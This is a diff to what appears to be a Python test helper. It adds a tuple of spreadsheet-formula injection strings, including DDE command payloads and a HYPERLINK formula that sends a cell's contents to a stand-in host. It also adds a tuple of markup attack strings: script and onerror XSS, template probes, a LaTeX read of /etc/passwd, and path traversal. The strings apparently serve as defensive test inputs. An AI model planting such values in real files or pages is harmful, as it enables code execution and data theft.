@@ -1,4 +1,4 @@
-"""What a file takes that was made to harm: the processor's time and the memory of the process while it is judged."""
+"""What was made to harm: texts of strangers, and what files take while they are judged."""
 
 import os
 from collections.abc import Iterator
@@ -24,3 +24,31 @@ def bounded() -> Iterator[None]:
     held = max(0.0, (peak.stop() or 0.0) / MB)
     assert held < MAX_MB
     assert not _CLOCK or took < MAX_SECONDS
+
+
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://elsewhere.example/?"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '=1+1","=2+2',
+    "=1\n=2",
+)
+MARKUP = (
+    "</script><script>alert(1)</script>",
+    "<!--<script>",
+    "]]>",
+    "</title><img src=x onerror=alert(1)>",
+    "\"'`${alert(1)}",
+    "{{ 7*7 }}{0}%s",
+    "$x^{$ \\frac \\input{/etc/passwd}",
+    "&lt;&#0;&amp",
+    "\u202e\u2028\u2029\ufeff",
+    "\"\"\"\n'''\\",
+    "/etc/passwd\0.png",
+    "../../../x",
+)
